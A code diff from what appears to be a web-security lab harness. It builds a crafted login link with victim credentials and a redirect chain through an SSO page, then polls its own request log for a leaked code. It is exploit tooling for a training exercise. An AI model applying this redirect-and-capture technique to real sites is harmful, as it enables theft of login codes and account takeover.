@@ -21,20 +21,20 @@ async function plant() {
 }
 
 function victimLink(target) {
-  const next = `/goto/${location.origin}/cache/${landing}`;
+  // The query of /goto/ADDRESS is the address's: the hop and the landing visit both carry the run id.
+  const next = `/goto/${location.origin}/cache/${landing}?lab-run=${run}`;
   const sso = `/lab/sso.html?next=${encodeURIComponent(next)}&lab-run=${run}`;
   const login = new URL('/login', target);
   login.searchParams.set('username', params.get('user') ?? 'victim');
   login.searchParams.set('password', params.get('password') ?? 'victim');
   login.searchParams.set('goto', sso);
-  login.searchParams.set('lab-run', run);
-  return login.href;
+  return tagged(login);
 }
 
 /** Waits (up to 6 s) for the code in this server's request log: the landing page's address carries it. */
 async function fromRequestLog() {
   for (let attempt = 0; attempt < 60; attempt++) {
-    const response = await fetch('/requests', { cache: 'no-store' });
+    const response = await fetch(tagged('/requests'), { cache: 'no-store' });
     if (!response.ok) {
       return failed(`no request log here (/requests answered ${response.status})`);
     }
